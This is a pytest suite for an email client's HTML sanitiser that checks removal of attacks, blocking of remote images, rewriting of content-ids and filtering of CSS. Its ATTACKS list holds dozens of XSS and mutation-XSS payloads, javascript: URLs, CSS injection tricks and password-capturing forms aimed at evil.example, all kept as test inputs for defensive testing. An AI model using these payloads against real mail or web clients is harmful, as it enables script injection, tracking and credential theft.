"""HTML of messages made safe: attacks, remote content, content ids and styles (RFC 8621 s9.2)."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from tindra.wire.html.sanitise import SafeHtml, sanitise_html
from tindra.wire.html.style import filter_style

PNG = "data:image/png;base64,iVBORw0KGgo="
ALLOWED_ATTRIBUTES = frozenset(
    (
        "style title dir lang align href target rel src srcset alt width height border hspace"
        " vspace valign bgcolor background colspan rowspan nowrap cellpadding cellspacing scope"
        " span color face size start type reversed value noshade clear datetime open class"
    ).split()
)
FORBIDDEN_TAGS = frozenset(
    (
        "script style title iframe frame frameset object embed applet form input button select"
        " option textarea svg math template noscript link meta base audio video canvas xmp"
        " plaintext noembed noframes marquee isindex keygen dialog portal slot image"
    ).split()
)
FORBIDDEN_STYLE = re.compile(
    r"expression|javascript|behavior|position\s*:|z-index|@|\\|-moz-binding|url\((?!\"(?:data:image/|/blob/))",
    re.IGNORECASE,
)


def cid_url(cid: str) -> str | None:
    return {"logo@x": "/blob/logo", "data@x": PNG, "odd@x": "/blob/a b('c')"}.get(cid)


def clean(html: str, allow_remote: bool = False) -> SafeHtml:
    return sanitise_html(html, cid_url=cid_url, allow_remote=allow_remote)


def check_safe(html: str) -> None:
    """The tree that another parser builds holds nothing but what is allowed."""
    root = LexborHTMLParser(f"<!DOCTYPE html><body><div>{html}</div><p>after</p>").root
    assert root is not None
    for node in root.traverse():
        assert node.tag not in FORBIDDEN_TAGS
        for name, value in node.attributes.items():
            assert name in ALLOWED_ATTRIBUTES, name
            check_attribute(node.tag or "", name, value or "")
    assert [node.text() for node in root.css("body > p")] == ["after"]


def check_attribute(tag: str, name: str, value: str) -> None:
    if name == "href":
        assert re.match(r"(https?://|mailto:|tel:)", value, re.IGNORECASE), value
    elif name in ("src", "background"):
        assert value.startswith(("data:image/png", "/blob/")), value
    elif name == "style":
        assert not FORBIDDEN_STYLE.search(value), value
    assert name != "srcset"


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img/onerror=alert(1)/src=x>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><foreignObject><math><mi><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><annotation-xml encoding=text/html><style></math><img src onerror=alert(1)></style>",
    "<math><mtext><mglyph><style><math><img src=x onerror=alert(1)></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    '<title><a title="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    "<select><noembed></select><script>'\"></noembed><img src=x onerror=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!> <img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#14; JaVa&#x09;Script&colon;alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a><a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=//evil.example>x</a><a href=/api/delete>x</a><a href='?x'>x</a><a href='#x'>x</a>",
    "<a href='http:evil'>x</a><a href='https:///'>x</a>",
    "<iframe src=//evil.example></iframe><iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,x><embed src=x><applet code=x>",
    "<form action=//evil.example><input name=password><button formaction=x>go</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example';</style>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</div>",
    "<div style='position:fixed !important'>x</div>",
    "<div style='pos\\69tion:fixed'>x</div>",
    "<div style='width:expression(alert(1))'>x</div><div style='behavior:url(x.htc)'>x</div>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style=\"background:url('//evil.example/x')\">x</div>",
    "<div style='background:u\\72l(//evil.example/x)'>x</div>",
    "<div style='background:image-set(\"//evil.example/x\" 1x)'>x</div>",
    "<div style='color:red;/*' title='*/;background:url(//evil.example)'>x</div>",
    "<div style='font-family:\"a;background:url(//evil.example)'>x</div>",
    "<div style='margin-top:-9999px'>x</div>",
    "<div style='content:url(//evil.example)'>x</div>",
    "<div style='--x:url(//evil.example);background:var(--x)'>x</div>",
    "<div id=login name=body class='admin modal'>x</div>",
    "<img name=getElementById><a id=cookie>x</a>",
    "<body onload=alert(1) style='background:url(//evil.example/x)'>x",
    "<body style='color:red\" onload=\"alert(1)'>x",
    "<table background=javascript:alert(1)><tr><td background=//evil.example/x>x</table>",
    "<img src=x:y><img src=file:///etc/passwd><img src=ftp://x/y><img src=about:blank>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='><img src='data:text/html,x'>",
    '<img src="data:image/png;base64,AA\' onerror=alert(1)">',
    "<img srcset='//evil.example/x 1x, x 2x'><img lowsrc=//evil.example dynsrc=//evil.example>",
    "<img src=\\\\evil.example\\x><img src='/\\evil.example/x'><img src='https:\\\\evil.example'>",
    "<video poster=//evil.example><source src=x></video><audio src=x autoplay>",
    "<a ping=//evil.example href=https://x.example>x</a><q cite=//evil.example>x</q>",
    "<p style='background:\0url(//evil.example)' \0onclick=alert(1)>x</p>",
    "</div></div></div><p>escape",
    "<b><p><a><table><form><b></p></a></table>",
    "<plaintext><script>alert(1)</script>",
    "<a href='https://x.example/\"onmouseover=alert(1)//'>x</a>",
    "<x-custom onclick=alert(1)>x</x-custom><dialog open>x</dialog>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_leave_nothing_behind(attack: str) -> None:
    for html in (attack, f"before{attack}after", f"<table><tr><td>{attack}</td></tr></table>"):
        result = clean(html)
        check_safe(result.html)
        assert clean(result.html).html == result.html
        assert "alert(1)" not in re.sub(r">[^<]*<", "><", f">{result.html}<").replace(
            "https://x.example/%22onmouseover=alert(1)//", ""
        ).replace('href="https://x.example/&quot;onmouseover=alert(1)//"', "")


@pytest.mark.parametrize(
    "html",
    [
        "<script></script>",
        "<img onerror=x>",
        "<a href='javascript:x'>x</a>",
        "<img src='https://t.example/x'>",
        "<p style='position:fixed'>x</p>",
        "<p style='background:url(\"https://t.example\")'>x</p>",
        "</div><p>outside",
        "<table>",
    ],
)
def test_the_check_itself_notices_what_is_not_safe(html: str) -> None:
    with pytest.raises(AssertionError):
        check_safe(html)


PIECES = (
    "<svg> </svg> <math> <mtext> <mglyph> <style> </style> <table> <tr> <td> </table> <p> </p> <b>"
    " </b> <a_href='https://x.example'> </a> <form> </form> <select> </select> <noscript>"
    " </noscript> <title> </title> <textarea> </textarea> <template> </template> <!-- --> <![CDATA["
    ' ]]> <img_src=x_onerror=y> <img_title="--&gt;"> " > \' x <annotation-xml> <desc>'
    " <foreignObject> <xmp> </xmp> <font_color=red> <div_style='color:red'> <ul>"
    " <li> <br> <h1> <button> &lt; \0"
).split()


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=30).map(lambda x: "".join(x).replace("_", " ")))
def test_any_mixture_of_tags_settles_and_is_safe(html: str) -> None:
    result = clean(html)
    check_safe(result.html)
    assert clean(result.html).html == result.html


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=80))
def test_any_text_is_taken(html: str) -> None:
    check_safe(clean(html).html)


def test_what_mail_is_made_of_stays() -> None:
    html = (
        '<h1 align="center">T</h1><p style="color:#333;font-family:\'Segoe UI\',Arial">a <b>b</b> '
        '<font color="red" size="2">c</font><br><a href="https://x.example/?a=1&amp;b=2">l</a></p>'
        '<table width="600" cellpadding="0" bgcolor="#fff"><tbody><tr><td colspan="2" valign="top">'
        '<img src="cid:logo@x" alt="Logo" width="10"></td></tr></tbody></table>'
        '<blockquote class="gmail_quote">q</blockquote><ol start="3"><li>i</li></ol>'
    )
    root = LexborHTMLParser(clean(html).html)
    style = root.css_first("p").attributes["style"] or ""
    assert "color:#333" in style
    assert "Segoe UI" in style
    assert root.css_first("a").attributes == {
        "href": "https://x.example/?a=1&b=2",
        "target": "_blank",
        "rel": "noopener noreferrer",
    }
    assert root.css_first("img").attributes == {"src": "/blob/logo", "alt": "Logo", "width": "10"}
    assert root.css_first("td").attributes == {"colspan": "2", "valign": "top"}
    assert root.css_first("blockquote").attributes == {"class": "gmail_quote"}
    assert root.css_first("ol").attributes == {"start": "3"}
    for link in ("mailto:a@b.example", "tel:+4912345", "HTTP://X.example"):
        assert link in clean(f'<a href="{link}">x</a>').html


REMOTE = (
    '<img src="https://t.example/1.gif"><img src="//t.example/2.gif">'
    '<td background="http://t.example/3">'
    '<img srcset="https://t.example/4 1x, https://t.example/5 2x">'
    "<p style=\"background:#fff url('https://t.example/6') no-repeat\">x</p>"
    '<p style="background-image:url(https://t.example/7)">y</p>'
)


def test_remote_content_is_removed_and_counted() -> None:
    result = clean(f"<table><tr>{REMOTE}</table>")
    assert "t.example" not in result.html
    assert "background:#fff" in result.html
    assert result.blocked_remote == 7


def test_remote_content_stays_if_allowed() -> None:
    result = clean(f"<table><tr>{REMOTE}</table>", allow_remote=True)
    assert [f"t.example/{n}" in result.html for n in range(1, 8)] == [True] * 7
    assert result.blocked_remote == 0
    assert clean(result.html, allow_remote=True).html == result.html
    assert "//t.example/2.gif" not in result.html.replace("https://t.example/2.gif", "")
    assert "javascript" not in clean("<img srcset='javascript:x 1x'>", allow_remote=True).html


def test_content_ids_are_replaced_everywhere_and_survive_the_second_cleaning() -> None:
    html = (
        '<img src="cid:logo@x"><img src="CID:%6Cogo@x"><img src="cid:data@x"><img src="cid:none@x">'
        "<p style=\"background-image:url('cid:logo@x')\">x</p>"
        "<p style='background:url(cid:odd@x)'>y"
    )
    result = clean(html).html
    assert result.count('src="/blob/logo"') == 2
    assert f'src="{PNG}"' in result
    assert "cid:" not in result
    assert "url(&quot;/blob/logo&quot;)" in result
    assert "url(&quot;/blob/a%20b%28%27c%27%29&quot;)" in result


def test_an_address_of_the_server_cannot_be_named_by_the_sender() -> None:
    assert "/blob/" not in clean('<img src="/blob/other"><a href="/blob/other">x</a>').html


def test_the_body_element_lends_its_colours() -> None:
    html = (
        "<!DOCTYPE html><html><head><style>x</style></head>"
        '<body bgcolor="#000000" text="white" style="padding:1px"><p>x</p></body></html>'
    )
    result = clean(html).html
    assert result.startswith('<div style="background-color:#000000;color:white;padding:1px">')
    assert clean("<p>a</p><body style='color:red'>b").html == "<p>a</p>b"


def test_what_costs_too_much_is_shown_as_text() -> None:
    result = clean("<div>" * 50_000 + "<script>x</script>1 &lt; 2")
    assert result.is_text
    assert result.html == '<div style="white-space:pre-wrap">1 &lt; 2</div>'


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("", ""),
        ("color:red", "color:red"),
        (" COLOR : Red ; ; margin:0 auto", "color:Red;margin:0 auto"),
        ("color:rgb(1,2,3);width:calc((1px + 2%)*3)", "color:rgb(1,2,3);width:calc((1px + 2%)*3)"),
        ("color:red !important", "color:red !important"),
        ("font-family:'Segoe UI', \"Ärial\"", "font-family:'Segoe UI', \"Ärial\""),
        ("color:/* c */red", "color:red"),
        ("color:red;/* open", "color:red"),
        ("position:absolute;color:red", "color:red"),
        ("color:red;unknown:1", "color:red"),
        ("color", ""),
        ("color:var(--x)", ""),
        ("color:\\72 ed", ""),
        ("color:red}x{", ""),
        ("color:<b>", ""),
        ("width:url(https://a)", ""),
        ("margin:-1px", ""),
        ("margin:1px -1px", ""),
        ("text-align:center;margin-left:-1px", "text-align:center"),
        ("background:url(data:image/png;base64,AA==) red", "background:url('OK') red"),
        ("background:url( 'a;b' ),url(\"c\")", "background:url('OK'),url('OK')"),
        ("background:url(none)", "background:none"),
        ("background:url(a b)", ""),
        ("x" * 20_000, ""),
    ],
)
def test_styles(style: str, kept: str) -> None:
    assert filter_style(style, lambda url: None if url == "none" else "OK") == kept
